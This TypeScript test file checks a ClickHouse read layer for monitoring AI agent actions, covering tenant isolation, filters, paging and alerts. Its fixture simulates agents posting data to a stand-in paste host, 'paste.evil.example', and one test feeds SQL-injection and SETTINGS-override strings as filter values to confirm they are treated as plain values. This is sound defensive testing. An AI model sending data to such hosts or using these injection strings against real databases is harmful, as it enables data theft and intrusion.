import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TaskStream } from '../scenarios/builder.js';
import type { AgentEvent } from '../schemas/index.js';
import { makeAlert } from '../services/alerter/testing.js';
import { toAlertRow } from '../services/detector/io/alert-rows.js';
import { toLine, toRow } from '../services/ingester/rows.js';
import { createEventWriter } from '../services/ingester/writer.js';
import { migrate } from '../services/platform/clickhouse/migrate.js';
import {
  ALL_TENANTS,
  createReadLayer,
  type EventCursor,
  type ReadLayer,
} from '../services/platform/clickhouse/read/index.js';
import { clickhouseClient, dropDatabase, uniqueName } from './helpers/stack.js';

// The read layer on the real engine: tenant isolation, filters, glob search, keyset paging,
// parameters that carry SQL or format text. (Query tags: run.test.ts; chdb keeps no query_log.)

const db = uniqueName('it_read');
const ch = clickhouseClient();
let read: ReadLayer;
const log = pino({ level: 'silent' });

function task(tenant: string, id: string, agent: string, actions: number): AgentEvent[] {
  const s = new TaskStream({
    tenant,
    taskId: id,
    agentId: agent,
    startMs: Date.parse('2026-11-01T10:00:00Z'),
  });
  s.declared({ allow: [{ tools: ['erp.*'], operations: ['read'] }] });
  for (let i = 0; i < actions; i++)
    s.action({
      tool: 'erp.invoices',
      operation: 'read',
      resource: `erp:invoices/2026-${String(i).padStart(3, '0')}`,
    });
  s.action({ tool: 'http.post', operation: 'transfer', destination: 'https://paste.evil.example/x' });
  return s.events();
}

beforeAll(async () => {
  await migrate(ch, { database: db, log });
  const events = [
    ...task('acme', 'acme-t1', 'bot-a', 30),
    ...task('acme', 'acme-t2', 'bot-b', 5),
    ...task('globex', 'globex-t1', 'bot-a', 10),
  ];
  const writer = createEventWriter(clickhouseClient(db), { retry: { initialMs: 10, maxMs: 100 }, log });
  const lines = events.map((e) => toLine(toRow(e, Date.now())));
  // Every event twice, as a redelivery would: reads must collapse the copies.
  const control = { signal: new AbortController().signal, onWait: async () => {} };
  expect(await writer.insert(lines, 'a', control)).toEqual([]);
  expect(await writer.insert(lines, 'b', control)).toEqual([]);
  await clickhouseClient(db).insert({
    table: 'alerts',
    values: [
      toAlertRow(
        makeAlert({ tenant: 'acme', task_id: 'acme-t1', rule_id: 'AT-EGR-001', evidence: ['acme-t1.32'] }),
      ),
    ],
    format: 'JSONEachRow',
  });
  read = createReadLayer({ client: ch, database: db, caller: 'read-layer-test' });
});

afterAll(async () => {
  await ch.close();
  await dropDatabase(db);
});

describe('read layer', () => {
  it("reads a task's timeline once per event, in seq order, and never another tenant's", async () => {
    const rows = await read.events.task('acme', 'acme-t1');
    expect(rows.map((r) => Number(r.seq))).toEqual(Array.from({ length: 32 }, (_, i) => i + 1));
    expect(await read.events.task('globex', 'acme-t1')).toEqual([]);
  });

  it('pages history newest first with a keyset cursor: every event once, none missing', async () => {
    const seen: string[] = [];
    let cursor: EventCursor | undefined;
    for (;;) {
      const page = await read.events.history('acme', { agent: 'bot-a' }, 7, cursor);
      if (page.length === 0) break;
      seen.push(...page.map((r) => r.event_id));
      const last = page.at(-1)!;
      cursor = { occurred_at: last.occurred_at, event_id: last.event_id };
    }
    expect(seen).toHaveLength(32);
    expect(new Set(seen).size).toBe(32);
    // The pages (keys first, then the rows) are one full read cut in pieces: same rows, same order.
    const whole = await read.events.history('acme', { agent: 'bot-a' }, 1000);
    expect(whole.map((r) => r.event_id)).toEqual(seen);
    expect(whole.every((r) => r.tenant === 'acme' && typeof r.data === 'string')).toBe(true);
    expect(await read.events.count('acme', { agent: 'bot-a' })).toBe(32);
    expect(await read.events.count('acme', {})).toBe(32 + 7);
  });

  it('filters by resource glob, destination glob, alert rule and time', async () => {
    expect(await read.events.count('acme', { resource: 'erp:invoices/2026-00*' })).toBe(10 + 5);
    expect(await read.events.count('acme', { destination: 'https://paste.evil.example/**' })).toBe(2);
    expect(await read.events.count('acme', { alert_rule: 'AT-EGR-001' })).toBe(1);
    expect(
      await read.events.count('acme', { from: '2026-11-01T10:00:05Z', to: '2026-11-01T10:00:08Z' }),
    ).toBe(3 + 2);
  });

  it('groups who touched a resource by agent and task', async () => {
    const rows = await read.events.touched('acme', 'resource', 'erp:invoices/2026-02?');
    expect(rows.map((r) => [r.agent_id, r.task_id, Number(r.actions)])).toEqual([['bot-a', 'acme-t1', 10]]);
  });

  it.each([
    ['a quote and SQL', "bot-a' OR 1=1 --"],
    ['a FORMAT override', 'x FORMAT TabSeparated'],
    ['a SETTINGS override', "x' SETTINGS readonly=0 --"],
    ['invalid Unicode', 'bot-\ud800'],
    ['a huge value', 'a'.repeat(100_000)],
  ])('a filter value holding %s is a value: an empty result, never an error or other rows', async (_d, v) => {
    expect(await read.events.count('acme', { agent: v })).toBe(0);
    expect(await read.events.history('acme', { task: v, resource: v }, 10)).toEqual([]);
    expect(await read.alerts.list('acme', { rule: v }, 10)).toEqual([]);
  });

  it('refuses a read without a tenant unless the caller says ALL_TENANTS', async () => {
    expect(() => read.events.history('', {}, 1)).toThrow(/needs a tenant/);
    expect(await read.alerts.idsSince(ALL_TENANTS, 0)).toHaveLength(1);
  });

  it('lists alerts and gets one, only for their tenant', async () => {
    const [a] = await read.alerts.list('acme', { task: 'acme-t1' }, 10);
    expect(a?.rule_id).toBe('AT-EGR-001');
    expect((await read.alerts.get('acme', a!.alert_id))?.alert_id).toBe(a!.alert_id);
    expect(await read.alerts.get('globex', a!.alert_id)).toBeUndefined();
  });
});
